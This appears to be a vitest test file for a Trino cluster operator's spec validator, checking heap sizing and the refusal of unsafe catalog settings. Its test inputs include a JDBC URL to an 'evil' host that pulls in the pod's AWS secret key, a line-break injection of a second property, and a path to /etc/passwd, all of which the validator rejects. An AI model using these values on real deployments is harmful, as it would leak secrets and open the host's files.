import { describe, expect, it } from "vitest";
import type { QueryClusterSpec } from "../../crds/kinds.ts";
import { findTerminalError, findWaitingError } from "../../runtime/errors.ts";
import type { ObservedCluster } from "./observe.ts";
import { ABSENT_PLATFORM, localPlatform, presentPlatform } from "../../testing/clickstream-pipeline.ts";
import { IMAGES, clusterWith, emptySurroundings } from "../../testing/query-cluster.ts";
import { validateCluster } from "./validate.ts";

function errorWith(
  spec: Partial<QueryClusterSpec>,
  observed: ObservedCluster = emptySurroundings(),
): unknown {
  try {
    return validateCluster(clusterWith(spec), observed, IMAGES);
  } catch (error) {
    return error;
  }
}

describe("a cluster that says nothing", () => {
  it("is a coordinator that works, with a cache of 1 GiB on the disk", () => {
    const { coordinator, worker, cache, catalogs, drainSeconds, names } = validateCluster(
      clusterWith(),
      emptySurroundings(),
      IMAGES,
    );
    const resources = { requests: { cpu: "200m", memory: "1536Mi" }, limits: { memory: "2Gi" } };
    expect({ coordinator, worker, cache, catalogs, drainSeconds, names }).toEqual({
      coordinator: { replicas: 1, resources, heapPercent: 60 },
      worker: { replicas: 0, resources, heapPercent: 60 },
      cache: { medium: "Disk", maxBytes: 2 ** 30 },
      catalogs: [],
      drainSeconds: 30,
      names: {
        flight: "query-flight",
        coordinator: "query",
        worker: "query-worker",
        coordinatorConfig: "query-coordinator",
        workerConfig: "query-worker",
        catalogs: "query-catalogs",
      },
    });
  });
});

describe("the heap", () => {
  it.each<[string, Partial<QueryClusterSpec>, number]>([
    ["leaves room for what a small JVM needs beside it", {}, 60],
    ["takes more of a larger container", { coordinatorResources: { limits: { memory: "4Gi" } } }, 70],
    ["takes most of a large container", { coordinatorResources: { limits: { memory: "64Gi" } } }, 80],
    [
      "leaves room for a cache in memory",
      { coordinatorResources: { limits: { memory: "4Gi" } }, cache: { medium: "Memory", maxSize: "2Gi" } },
      30,
    ],
  ])("%s", (_title, spec, percent) => {
    expect(validateCluster(clusterWith(spec), emptySurroundings(), IMAGES).coordinator.heapPercent).toBe(
      percent,
    );
  });

  it.each<[string, Partial<QueryClusterSpec>, string]>([
    [
      "the container is too small",
      { workers: 1, workerResources: { limits: { memory: "512Mi" } } },
      'spec.workerResources must leave Trino at least 1Gi of memory; "512Mi" leaves less, so raise the limit',
    ],
    [
      "the cache takes it",
      { cache: { medium: "Memory", maxSize: "1536Mi" } },
      'spec.coordinatorResources must leave Trino at least 1Gi of memory; "2Gi" leaves less, so raise the limit or lower spec.cache.maxSize',
    ],
    [
      "an option of the JVM sizes the heap",
      { jvmOptions: ["-Xmx2G"] },
      'spec.jvmOptions must not hold "-Xmx2G": the operator sizes the heap by the memory limit; change the limit',
    ],
    [
      "a session property is none",
      { sessionProperties: { "Query-Max": "1" } },
      'spec.sessionProperties must not hold "Query-Max": it is no name of a session property, as query_max_run_time or lake.compression_codec',
    ],
    [
      "a session property is of a catalog that it does not have",
      { sessionProperties: { "crm.compression_codec": "ZSTD" } },
      'spec.sessionProperties must not hold "crm.compression_codec": there is no catalog "crm"; known: lake',
    ],
  ])("is refused when %s", (_title, spec, message) => {
    expect(findTerminalError(errorWith(spec))).toMatchObject({ reason: "InvalidSpec", message });
  });
});

describe("a catalog is refused", () => {
  it.each<[string, NonNullable<QueryClusterSpec["catalogs"]>[number], string]>([
    [
      "with the platform's name",
      { name: "lake", connector: "tpch" },
      "name: name must not be 'lake' or 'system'",
    ],
    [
      "with Trino's own name",
      { name: "system", connector: "tpch" },
      "name: name must not be 'lake' or 'system'",
    ],
    [
      "that reads a variable of the pod, where the secrets of all catalogs are",
      {
        name: "a",
        connector: "postgresql",
        properties: { "connection-url": "jdbc:postgresql://evil/${ENV:AWS_SECRET_ACCESS_KEY}" },
      },
      "properties: must not hold '${' in a value",
    ],
    [
      "that smuggles in a second property",
      {
        name: "a",
        connector: "tpch",
        properties: { "tpch.splits-per-node": "1\nfs.native-local.enabled=true" },
      },
      "properties: must not hold line breaks in a value",
    ],
    [
      "with a password as text",
      { name: "a", connector: "postgresql", properties: { "connection-password": "x" } },
      "properties: must not hold passwords, tokens or keys",
    ],
    [
      "with a token as text",
      { name: "a", connector: "iceberg", properties: { "iceberg.rest-catalog.oauth2.token": "x" } },
      "properties: must not hold passwords, tokens or keys",
    ],
    [
      "that names a file of the pod",
      { name: "a", connector: "hive", properties: { "hive.config.resources": "/etc/passwd" } },
      "properties: must not hold connector.name",
    ],
    [
      "that names a file of the pod by a Secret",
      {
        name: "a",
        connector: "kafka",
        secretProperties: [{ property: "kafka.keystore-path", secretRef: { name: "s", key: "k" } }],
      },
      "secretProperties.0.property: must not hold connector.name",
    ],
    [
      "that opens the pod's own file system",
      { name: "a", connector: "iceberg", properties: { "fs.native-local.enabled": "true" } },
      "properties: must not hold connector.name",
    ],
    [
      "that would share the platform's cache",
      { name: "a", connector: "iceberg", properties: { "fs.cache.directories": "/cache/lake" } },
      "properties: must not hold connector.name",
    ],
  ])("%s", (...[, catalog, problem]) => {
    expect(findTerminalError(errorWith({ catalogs: [catalog] }))).toMatchObject({
      reason: "InvalidSpec",
      message: expect.stringContaining(`spec.catalogs[${catalog.name}].${problem}`) as string,
    });
  });

  it.each([
    { "azure.access-key": "x" },
    { "gcs.json-key": "x" },
    { "bigquery.credentials-key": "x" },
    { "hive.azure.account-key": "x" },
    { "s3.aws-secret-key": "x" },
    { "connection-url": "mongodb://alice:hunter2@mongo/" },
    { "connection-url": "jdbc:mysql://db/?user=alice&Password=hunter2" },
  ])("with a credential in the open: %j", (properties) => {
    const message = expect.stringContaining("use secretProperties") as string;
    const error = errorWith({ catalogs: [{ name: "a", connector: "x", properties }] });
    expect(findTerminalError(error)).toMatchObject({ reason: "InvalidSpec", message });
  });

  it.each([
    "s3.path-style-access",
    "hive.metastore.uri",
    "iceberg.file-format",
    "connection-user",
    "s3.aws-access-key",
    "hive.metastore.glue.aws-access-key",
    "tpch.splits-per-node",
  ])("not for %s", (property) => {
    expect(
      errorWith({ catalogs: [{ name: "a", connector: "x", properties: { [property]: "1" } }] }),
    ).not.toBeInstanceOf(Error);
  });
});

describe("a cluster waits", () => {
  it.each<[string, Partial<QueryClusterSpec>, ObservedCluster, string, string]>([
    [
      "for its platform",
      {},
      { ...emptySurroundings(), platform: ABSENT_PLATFORM },
      "PlatformNotFound",
      'DataPlatform "local" does not exist in namespace "quickstart"',
    ],
    [
      "for the platform's Secret",
      {},
      { ...emptySurroundings(), platform: presentPlatform(localPlatform(), new Map()) },
      "SecretNotFound",
      'Secret "s3-credentials" does not exist',
    ],
    [
      "for the Secret of a catalog",
      {
        catalogs: [
          {
            name: "orders",
            connector: "postgresql",
            secretProperties: [
              { property: "connection-password", secretRef: { name: "orders-db", key: "password" } },
            ],
          },
        ],
      },
      emptySurroundings(),
      "SecretNotFound",
      'Secret "orders-db" does not exist',
    ],
  ])("%s", (...[, spec, observed, reason, message]) => {
    expect(findWaitingError(errorWith(spec, observed))).toMatchObject({ reason, message });
  });
});
